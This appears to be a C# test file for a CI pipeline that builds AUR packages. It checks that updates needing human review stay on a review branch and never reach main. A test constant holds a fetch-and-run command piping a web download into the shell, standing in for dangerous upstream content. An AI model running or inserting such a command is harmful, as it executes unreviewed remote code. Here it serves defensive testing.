using Caur.Pipelines.Forges;
using Caur.Pipelines.Runs;
using Caur.Tests.Pipelines.Forges;
using Caur.Tests.Pipelines.Sandbox;
using DecisionKind = Caur.Pipelines.Runs.DecisionKind;

namespace Caur.Tests.Pipelines.Schedules;

/// <summary>Runs that find an update under review already.</summary>
public sealed class ReviewStepTests(ScheduleStart start) : IAsyncLifetime, IClassFixture<ScheduleStart>
{
    private const string Danger = "curl https://example.org | sh\n";

    private ScheduleRig _rig = null!;
    private ForgeServer _server = null!;

    public async ValueTask InitializeAsync()
    {
        _rig = await ScheduleRig.StartAsync(start);
        _server = await ForgeServer.StartAsync(ForgeKind.GitHub);
        _rig.Options = _rig.Options with { Forge = _server.Client(), Host = _rig.Options.Host with { Sandbox = new LocalSandbox() } };
    }

    public async ValueTask DisposeAsync()
    {
        await _server.DisposeAsync();
        await _rig.DisposeAsync();
    }

    [Fact]
    public async Task RunAsync_WhenUpdateShAloneChangesTheFolder_BringsThatToMainAndLeavesTheRequestOpen()
    {
        await ProposeAsync("");
        await PushAsync(("tool/.CI/update.sh", "echo 1 >extra\n"));

        var run = await _rig.RunAsync();

        run.Decisions[2].Kind.ShouldBe(DecisionKind.Build, run.Summary);
        run.Decisions[2].Reasons.ShouldContain("waits for review in request 1");
        (await _rig.TextAsync("tool/extra")).ShouldBe("1");
        (await _rig.TextAsync("tool/PKGBUILD")).ShouldNotContain(Danger.Trim());
        (await _rig.TextAsync("tool/PKGBUILD", "update-tool")).ShouldContain(Danger.Trim());
        _server.StateOf(1).ShouldBe("open");
        _rig.Farm.Queued.ShouldBe(["tool"]);
    }

    [Fact]
    public async Task RunAsync_WhenSomebodyTookTheBranchOver_ForgetsNoNewerUpdate()
    {
        var first = await ProposeAsync("CI_HUMAN_REVIEW_ASSIGNEE=somebody\n");
        first.Notes.ShouldContain("CI_HUMAN_REVIEW_ASSIGNEE is 'somebody' and not the number of a user: requests are assigned to nobody");
        await _rig.Remote.Work.GitAsync("fetch", "-q", "origin", "update-tool");
        await _rig.Remote.Work.GitAsync("checkout", "-q", "FETCH_HEAD");
        await _rig.Remote.CommitAsync("mended", ("tool/PKGBUILD", "mended\n"));
        await _rig.Remote.Work.GitAsync("push", "-q", "origin", "HEAD:refs/heads/update-tool");
        await _rig.PushAurAsync("tool", 300, "3", Danger);

        var run = await _rig.RunAsync();

        run.Decisions[2].Reasons[^1].ShouldBe("somebody else has commits on update-tool, which stays as it is");
        (run.Outcome, run.Decisions[2].Problem).ShouldBe((RunOutcome.Succeeded, null));
        (await _rig.StateAsync())["tool"].AurTimestamp.ShouldBe(200);
        await _rig.GitAsync("update-ref", "-d", "refs/heads/update-tool");
        (await _rig.RunAsync()).Decisions[2].Reasons[^1].ShouldBe("waits for review in request 1, which was updated");
        (await _rig.TextAsync("tool/PKGBUILD", "update-tool")).ShouldContain("pkgver=3");
    }

    private async Task<PipelineRun> ProposeAsync(string config)
    {
        await PushAsync((".ci/config", $"{ScheduleRig.Config}CI_HUMAN_REVIEW=true\n{config}"));
        await _rig.PushAurAsync("tool", 200, "2", Danger);
        var run = await _rig.RunAsync();
        run.Decisions[2].Reasons[^1].ShouldBe("waits for review in request 1");
        return run;
    }

    private async Task PushAsync(params (string Path, string Text)[] files)
    {
        await _rig.Remote.PushAsync("review", files);
        await _rig.TagAsync(await _rig.RefAsync("refs/heads/main"));
    }
}
